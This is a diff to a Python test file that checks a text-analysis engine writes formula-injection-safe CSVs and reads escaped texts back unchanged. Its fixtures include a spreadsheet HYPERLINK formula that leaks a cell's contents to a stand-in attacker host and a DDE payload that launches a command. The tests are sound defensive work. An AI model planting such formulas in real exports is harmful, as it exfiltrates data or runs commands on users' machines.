@@ -6,7 +6,7 @@ import pandas as pd
 
 from minsheng.engine.cells import formula_safe, formula_safe_frame
 from minsheng.engine.pipeline import AnalyzeOptions, analyze
-from minsheng.engine.result import write_result
+from minsheng.engine.result import AnalysisResult, read_result, write_result
 
 LEAK = '=HYPERLINK("http://evil.example/?leak="&A1,"查看原文")'
 DDE = "=cmd|' /C calc'!A0"
@@ -36,3 +36,15 @@ def test_the_analysis_csvs_are_safe_to_open(tmp_path):
     for csv in (tmp_path / "out").glob("*.csv"):
         for value in pd.read_csv(csv, dtype=str, keep_default_na=False).to_numpy().ravel():
             assert not value.startswith(("=", "+", "@")), f"{csv.name}: {value!r}"
+
+
+def test_read_result_gives_back_the_texts_as_they_were(tmp_path):
+    """The apostrophe is the file's, not the text's: read back, a formula-like text is itself again, and a text
+    that really starts with an apostrophe (not before a formula start), or is only one, keeps it."""
+    texts = [DDE, "＝全角", "'引号开头", "'", "-3", None, "建议"]
+    themes = pd.DataFrame({"theme_id": list(range(len(texts))), "label": pd.array(texts, dtype="string"),
+                           "parent_id": pd.array(texts[::-1], dtype="string")})
+    write_result(AnalysisResult(records=pd.DataFrame({"id": ["m1"]}), themes=themes), tmp_path)
+    back = read_result(tmp_path).themes
+    assert back["label"].tolist() == pd.array(texts, dtype="string").tolist()
+    assert back["parent_id"].tolist() == pd.array(texts[::-1], dtype="string").tolist()
